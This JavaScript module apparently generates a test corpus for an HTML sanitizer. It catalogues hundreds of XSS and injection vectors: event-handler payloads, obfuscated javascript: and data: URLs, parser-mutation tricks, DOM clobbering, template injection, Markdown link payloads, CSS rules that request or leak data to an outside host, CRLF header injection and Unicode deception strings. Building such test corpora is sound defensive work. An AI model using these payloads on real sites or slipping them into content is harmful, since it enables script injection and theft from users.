// What someone who means harm would write into a text, made from what the HTML, SVG, MathML, URL,
// CSS and Unicode standards say is read and run: elements by handlers, carriers by schemes,
// namespaces by places where the parser changes its mind, each in every writing that parsers take
// for the same. No list of somebody else is in here; `corpora.mjs` has those.

/** Letters as character references, in the ways that the HTML standard lets them be written. */
const decimal = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join("");
const bare = (text) => [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(7, "0")}`).join("");
const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join("");

/** Elements that fire an event without anybody's help: what they need for it, and the event. */
const SELF_FIRING = [
  ["img src=x", "error"], ["image src=x", "error"], ["audio src=x", "error", "</audio>"],
  ["video src=x", "error", "</video>"],
  ["video><source src=x", "error", "</video>"], ["video src=x><track default src=x", "error", "</video>"],
  ["input type=image src=x", "error"],
  ["object data=x", "error", "</object>"], ["embed src=x", "load"], ["iframe", "load", "</iframe>"],
  ["link rel=stylesheet href=x", "error"], ["link rel=preload as=image href=x", "error"],
  ["script src=x", "error", "</script>"],
  ["svg><image href=x", "error", "</svg>"], ["svg><animate attributeName=x dur=1s", "begin", "</svg>"],
  ["svg><animateTransform attributeName=x dur=1s", "begin", "</svg>"],
  ["svg><animateMotion dur=1s", "begin", "</svg>"],
  ["svg><set attributeName=x", "begin", "</svg>"], ["svg", "load", "</svg>"], ["style", "load", "</style>"],
  ["details open", "toggle", "x</details>"], ["marquee", "start", "x</marquee>"], ["input autofocus", "focus"],
  ["select autofocus", "focus", "</select>"], ["textarea autofocus", "focus", "</textarea>"],
  ["p tabindex=0 autofocus", "focus", "x</p>"],
  ["p contenteditable autofocus", "focus", "x</p>"], ["body", "load"], ["body", "pageshow"],
  [`style>@keyframes p{}</style><p style="animation:p 1s"`, "animationstart", "x</p>"],
  [`style>@keyframes p{}</style><p style="animation:p 1ms"`, "animationend", "x</p>"],
  [`p style="transition:opacity 1s"`, "transitionrun", "x</p>"], ["p", "click", "<a>x</a></p>"],
  ["a href=#", "click", "x</a>"],
  ["p", "mouseover", "x</p>"], ["p", "pointerenter", "x</p>"], ["p", "wheel", "x</p>"],
  ["form", "submit", "<button>x</button></form>"],
  ["dialog open", "close", "<form method=dialog><button>x</button></form></dialog>"],
  ["math", "click", "<mi>x</mi></math>"],
  ["p style=content-visibility:auto", "contentvisibilityautostatechange", "x</p>"],
];

/** How one attribute can be written; all are the same to a parser. */
const WRITINGS = {
  bare: (tag, event, run) => `<${tag} on${event}=${run}>`,
  quoted: (tag, event, run) => `<${tag} on${event}="${run}">`,
  apostrophes: (tag, event, run) => `<${tag} on${event}='${run}'>`,
  capitals: (tag, event, run) => `<${tag.toUpperCase()} ON${event.toUpperCase()}=${run}>`,
  slashes: (tag, event, run) => `<${tag.replaceAll(" ", "/")}/on${event}=${run}>`,
  "line ends": (tag, event, run) => `<${tag.replaceAll(" ", "\n")}\r\non${event}\n=\n${run}\n>`,
  "form feeds": (tag, event, run) => `<${tag.replaceAll(" ", "\f")}\fon${event}\f=\f${run}\f>`,
  "decimal references": (tag, event, run) => `<${tag} on${event}=${decimal(run)}>`,
  "references without an end": (tag, event, run) => `<${tag} on${event}="${bare(run)}">`,
  "hexadecimal references": (tag, event, run) => `<${tag} on${event}=${hex(run)}>`,
  "named references": (tag, event, run) => `<${tag} on${event}="${run.replace("(", "&lpar;").replace(")", "&rpar;")}">`,
  "an escaped name": (tag, event, run) => `<${tag} on${event}="\\u0078${run.slice(1)}">`,
  "the first of two": (tag, event, run) => `<${tag} on${event}=${run} on${event}=0>`,
  "after junk": (tag, event, run) => `<${tag} """ ' < = on${event}=${run}>`,
  "a tag in a tag": (tag, event, run) => `<${tag} x="<${tag}>" on${event}=${run}>`,
  "no end": (tag, event, run) => `<${tag} on${event}=${run} `,
};

const handlers = SELF_FIRING.map(([tag, event, end = ""]) => (run) => `<${tag} on${event}=${run}>${end}`);
const writings = ["img src=x", "svg><image href=x", "audio src=x"].flatMap((tag) =>
  Object.values(WRITINGS).map((write) => (run) => write(tag, "error", run)));

/** Elements that follow or load an address, around a place for it. */
const CARRIERS = [
  (to) => `<a href="${to}">x</a>`, (to) => `<a href='${to}' target=_self>x</a>`,
  (to) => `<svg><a href="${to}"><text>x</text></a></svg>`,
  (to) => `<svg><a xlink:href="${to}"><text>x</text></a></svg>`,
  (to) => `<svg><a><set attributeName=href to="${to}"/><text>x</text></a></svg>`,
  (to) => `<math href="${to}"><mi href="${to}">x</mi></math>`, (to) => `<map><area href="${to}"></map>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
  (to) => `<form><button formaction="${to}">x</button></form>`,
  (to) => `<form><input type=submit formaction="${to}"></form>`, (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<object data="${to}"></object>`, (to) => `<embed src="${to}">`, (to) => `<img src="${to}">`,
];

/** Ways to write an address that runs; `&` begins a character reference, which only HTML decodes. */
const SCHEMES = [
  (run) => `javascript:${run}`, (run) => `JaVaScRiPt:${run}`, (run) => ` \n\tjavascript:${run}`,
  (run) => `&#1;&#31;javascript:${run}`,
  (run) => `java&Tab;script:${run}`, (run) => `java&NewLine;script&#13;:${run}`, (run) => `javascript&colon;${run}`,
  (run) => `&#106;avascript&#0000058${run}`, (run) => `${hex("javascript:")}${run}`,
  (run) => `javascript://x.test/%0a${run}`,
  (run) => `javascript:/*x*/${run}`, (run) => `javascript:%78${run.slice(1)}`, (run) => `javascript\u200b:${run}`,
  (run) => `vbscript:${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${run}'/>`,
  (run) => `data:text/html;base64,${Buffer.from(`<script>parent.${run}</script>`).toString("base64")}`,
  () => "blob:https://x.test/1", () => "file:///etc/passwd", () => "filesystem:https://x.test/temporary/x",
  () => "view-source:javascript:0",
];
// Every writing in a plain link, and the plain writing in every carrier, then pairs of the others.
const schemes = [
  ...SCHEMES.map((write) => (run) => CARRIERS[0](write(run))),
  ...CARRIERS.slice(1).map((carry) => (run) => carry(SCHEMES[0](run))),
  ...CARRIERS.slice(1).flatMap((carry, n) => [1, 4, 8, 14].map((m) => (run) => carry(SCHEMES[(m + n) % SCHEMES.length](run)))),
];

/** Where the parser goes from foreign content back to HTML, by the element around it. */
const INTEGRATION = {
  math: ["mi", "mo", "mn", "ms", "mtext", `annotation-xml encoding="text/html"`, `annotation-xml encoding="application/xhtml+xml"`, "mglyph", "mrow"],
  svg: ["foreignObject", "desc", "title", "g"],
};
/** Elements whose inside is text in HTML and elements elsewhere, so that one text is read in two ways. */
const RAW = ["style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "script", "template"];
const image = (run) => `<img src=x onerror=${run}>`;
const mutations = [
  ...Object.entries(INTEGRATION).flatMap(([space, points]) => points.flatMap((point) => RAW.map((raw) => (run) =>
    `<${space}><${point}><${raw}><a title="</${raw}>${image(run)}">`))),
  ...["math", "svg"].flatMap((space) => [
    (run) => `<${space}><!--><style><a title="--></style>${image(run)}">`,
    (run) => `<${space}><style><!--</style><a title="-->${image(run)}">`,
    (run) => `<${space}></p><style><a id="</style>${image(run)}">`,
    (run) => `<${space}><![CDATA[</${space}>]]>${image(run)}`,
    (run) => `<${space}><x><style><![CDATA[</style>${image(run)}]]></x>`,
    (run) => `<table><${space}><td><style><a title="</style>${image(run)}">`,
  ]),
  (run) => `<form><math><mtext></form><form><mglyph><style></math>${image(run)}`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  (run) => `<math><mtext><option><fake><option></option><mglyph><style></math>${image(run)}`,
  (run) => `<table><colgroup><p><a><table><svg><style><a title="</style>${image(run)}">`,
  (run) => `${"<div>".repeat(513)}<math><mtext><style><a title="</style>${image(run)}">`,
  (run) => `<select><option><style></option></select>${image(run)}</style>`,
  (run) => `<div><template shadowrootmode=open>${image(run)}</template></div>`,
  (run) => `<a><div><a><p><svg><desc><math><title><style><a title="</style>${image(run)}">`,
];
const rawTexts = [
  ...RAW.map((raw) => (run) => `<${raw}><p title="</${raw}>${image(run)}">`), (run) => `<!-->${image(run)}-->`,
  (run) => `<!--->${image(run)}-->`,
  (run) => `<!--x--!>${image(run)}-->`, (run) => `<![CDATA[>${image(run)}]]>`, (run) => `<?xml >${image(run)}?>`,
  (run) => `</ ${image(run)}>`,
  (run) => `<plaintext>${image(run)}`, (run) => `<math><mtext></form>${image(run)}</mtext></math>`,
];

const scripts = [
  (run) => `<script>${run}</script>`, (run, ask) => `<script src="${ask}"></script>`,
  (run, ask) => `<svg><script href="${ask}">${run}</script></svg>`,
  (run) => `<scr\0ipt>${run}</script>`, (run) => `<scr<script>ipt>${run}</script>`,
  (run) => `<script\u00a0>${run}</script>`, (run) => `<SCRIPT/x>${run}</SCRIPT >`,
  (run) => `<script type=module>${run}</script>`, (run) => `<script for=window event=onload>${run}</script>`,
  (run) => `<math><script>${run}</script></math>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="${hex(`<img src=x onerror=parent.${run}>`)}"></iframe>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"></use></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"></animate><text>x</text></a></svg>`,
  (run) => `<x-y onfocus=${run} tabindex=0 autofocus>x</x-y>`, (run) => `<isindex type=image src=x onerror=${run}>`,
  (run) => `<keygen autofocus onfocus=${run}>`,
  (run) => `<object type="text/html" data="data:text/html,<script>parent.${run}</script>"></object>`,
  (run) => `<button popovertarget=p onclick=${run}>x</button><p popover id=p onbeforetoggle=${run}>x</p>`,
  (run) => `<input oninput=${run} onchange=${run} onpaste=${run} value=x autofocus>`,
];

/** What asks for something without running anything. */
const asks = [
  ...["stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest", "import", "preconnect", "dns-prefetch", "alternate stylesheet"]
    .map((rel) => (_, ask) => `<link rel="${rel}" as=script href="${ask}">`),
  ...["background", "poster", "lowsrc", "dynsrc", "longdesc", "ping", "cite", "usemap", "archive", "codebase", "attributionsrc", "profile"]
    .map((name) => (_, ask) => `<a ${name}="${ask}" href="#x">x</a><img alt=x ${name}="${ask}"><table ${name}="${ask}"><tr><td ${name}="${ask}">x</td></tr></table>`),
  (_, ask) => `<img srcset="${ask} 1x" sizes=1px>`,
  (_, ask) => `<picture><source srcset="${ask}"><img alt=x></picture>`,
  (_, ask) => `<link rel=preload as=image imagesrcset="${ask} 1x">`, (_, ask) => `<video poster="${ask}"></video>`,
  (_, ask) => `<video src="${ask}" autoplay muted></video>`,
  (_, ask) => `<audio><source src="${ask}"></audio>`, (_, ask) => `<video src=x><track default src="${ask}"></video>`,
  (_, ask) => `<input type=image src="${ask}">`,
  (_, ask) => `<svg><image href="${ask}"></image></svg>`,
  (_, ask) => `<svg><image xlink:href="${ask}"></image></svg>`, (_, ask) => `<svg><use href="${ask}#x"></use></svg>`,
  (_, ask) => `<svg><filter id=f><feImage href="${ask}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (_, ask) => `<svg><rect fill="url(${ask}#x)" width=9 height=9 /></svg>`,
  (_, ask) => `<object data="${ask}"></object>`, (_, ask) => `<embed src="${ask}">`,
  (_, ask) => `<iframe src="${ask}"></iframe>`, (_, ask) => `<frameset><frame src="${ask}"></frameset>`,
  (_, ask) => `<base href="${ask}"><img src="x">`, (_, ask) => `<meta http-equiv=refresh content="9;url=${ask}">`,
  (_, ask) => `<meta http-equiv=Link content="<${ask}>;rel=preload;as=image">`,
  (_, ask) => `<math><mglyph src="${ask}"></mglyph><maction actiontype="statusline" href="${ask}">x</maction></math>`,
  (_, ask) => `<applet code="${ask}"></applet><bgsound src="${ask}">`,
  ...["quiz", "pledge", "video"].map((name) => (_, ask) => `<adil-${name} loading=eager src="${ask}"></adil-${name}>`),
];

/** What a style can ask for, or cover; `{}` is the address. */
const CSS = [
  "background:url({})", "background-image:image-set('{}' 1x)", "background:u\\72l({})", "background/**/:url('{}')",
  "list-style:url({})", "content:url({})", "cursor:url({}),auto",
  "border-image:url({})", "mask:url({}#x)", "filter:url({}#x)", "shape-outside:url({})", "behavior:url({})",
  "-moz-binding:url({})", "width:expression(alert(1))",
  "position:fixed;inset:0;z-index:99999;background:red", "--x:url({});background:var(--x)",
];
const styles = [
  ...CSS.map((css) => (_, ask) => `<p style="${css.replaceAll("{}", ask)}">x</p>`),
  (_, ask) => `<style>@import "${ask}";</style>`, (_, ask) => `<style>@import url(${ask});p{color:red}</style>`,
  (_, ask) => `<style>*{background:url(${ask})}</style>`,
  (_, ask) => `<style>@font-face{font-family:f;src:url(${ask})}b{font-family:f}</style><b>x</b>`,
  (_, ask) => `<style>input[value^=x]{background:url(${ask})}</style>`,
  (_, ask) => `<style>:host{background:url(${ask})}::slotted(*){display:none}</style>`,
  (_, ask) => `<svg><style>@import "${ask}";</style></svg>`,
  (_, ask) => `<link rel=stylesheet href="data:text/css,*{background:url(${ask})}">`,
  () => `<p class="base go poster visually-hidden" part="base" slot="footer" dir=rtl hidden>x</p>`,
];

/** Names that stand in the way of a page's own properties, and elements that a widget knows. */
const clobbering = [
  ...["body", "cookie", "currentScript", "scripts", "head", "createElement", "adoptedStyleSheets", "getElementById", "location", "documentElement"]
    .map((name) => () => `<img name=${name} id=${name}><form name=${name} id=${name}><input name=${name}></form><a id=${name}></a>`),
  ...["attributes", "parentNode", "childNodes", "innerHTML", "removeAttribute", "nodeName", "ownerDocument", "remove", "shadowRoot"]
    .map((name) => (run) => `<form onclick=${run}><input name=${name}><input id=${name}></form>`),
  () => `<slot name=footer></slot><slot></slot>`, (run) => `<button part=go class=go onclick=${run}>x</button>`,
  (run) => `<p class=base id=xss tabindex=0 onfocus=${run} autofocus>x</p>`,
  () => `<p lang="en&quot; onclick=&quot;x" dir="auto rtl" title='"><script>'>x</p>`,
];

/** What templates and formats of other systems would run or fill in. */
const templates = [
  (run) => `{{constructor.constructor('${run}')()}}`, (run) => `\${${run}}`, (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`, (run) => `{%${run}%}`, (run) => `[[${run}]]`, (run) => `@(${run})`,
  (run) => `{{[].filter.constructor('${run}')()}}`, (run) => `{{{${run}}}}`,
  (run) => `<p v-html="'${run}'" ng-init="${run}" x-init="${run}" x-data>x</p>`,
  (run) => `<p @click="${run}" :onclick="${run}" hx-on:load="${run}">x</p>`,
  (run) => `<div data-bind="html: ${run}" data-onclick="${run}" data-toggle=tooltip title="<img src=x onerror=${run}>">x</div>`, () => "{n} {total} {clause} {name} {date} {version} {time}", () => "%s %1$s %n %00 %0d%0aSet-Cookie:x=1",
  (run) => `{money:${run}} {money:1e999} {money:-0} {money:NaN} {money:}`, (run) => `";${run};//`,
  (run) => `'-${run}-'`, (run) => `\`-${run}-\``, (run) => `*/${run}/*`, (run) => `]]>${image(run)}`,
  (run) => `\u2028${run}\u2029`,
];

/** The small syntax of content files, with what must never become an address or an element. */
const marks = [
  ...SCHEMES.map((write) => (run) => `[x](${write(run)})`),
  ...[0, 1, 2, 4, 14, 15, 17].map((n) => (run) => `![x](${SCHEMES[n](run)})`),
  (run) => `[x](https://x.test/" onmouseover="${run})`, (run) => `[**x**](javascript:${run})`,
  (run) => `[![x](javascript:${run})](javascript:${run})`, (run) => `![x" onerror="${run}](x.svg)`,
  (run) => `![x](x.svg" onerror="${run})`, (run) => `**${image(run)}**`, (run) => `\`${image(run)}\``,
  (run) => `| ${image(run)} |\n|-|\n| <svg> |`, (run) => `- ${image(run)}`, (run) => `1. ${image(run)}`,
  (run) => `x^<svg/onload=${run}>^ y~<svg/onload=${run}>~`, (run) => `<javascript:${run}>`,
  (run) => `[x]: javascript:${run}`, (run) => `[x](x "javascript:${run}")`, (run) => `[x](<javascript:${run}>)`,
  (run) => `[x]\\(javascript:${run})`,
  () => `${"*".repeat(400)}${"[".repeat(400)}${"](".repeat(400)}`,
  () => `[x](//x.test/\u0000) [y](\\\\x.test\\y) [z](/\\x.test)`,
];

/** Letters that show something else than what stands there. */
const DECEPTIONS = [
  "\u202egpj.exe", "\u202dabc", "\u2066\u202eabc", "\u2067\u05d0bc\u2068x", "\u061c1\u200f2\u200e3",
  "\u202e\u202d\u202e\u2066\u2067\u2068", "x\u200b\u200c\u200d\u2060\ufeffy",
  "Z\u0351\u0346\u030b\u0311".repeat(60), "\u0000\u0001\u001f\u007f\u0085", "\ufff9a\ufffab\ufffb", "\ufdd0\uffff",
  "\u{e0001}\u{e0041}", "paypa\u04cf.kz", "\uff1cimg src=x onerror=1\uff1e", "\u212aelvin \u017ft",
];

const KINDS = { handlers, writings, schemes, mutations, "raw texts": rawTexts, scripts, asks, styles, clobbering, templates, marks, deceptions: DECEPTIONS.map((text) => () => text) };

/** The vectors, each with a number by which its call is known: `xss(number)`, or an address of a stranger's. */
export const vectorsFor = (stranger) => Object.entries(KINDS).flatMap(([kind, all]) => all.map((write) => ({ kind, write })))
  .map(({ kind, write }, n) => ({ n, kind, text: write(`xss(${n})`, `${stranger}/${n}.x`) }));
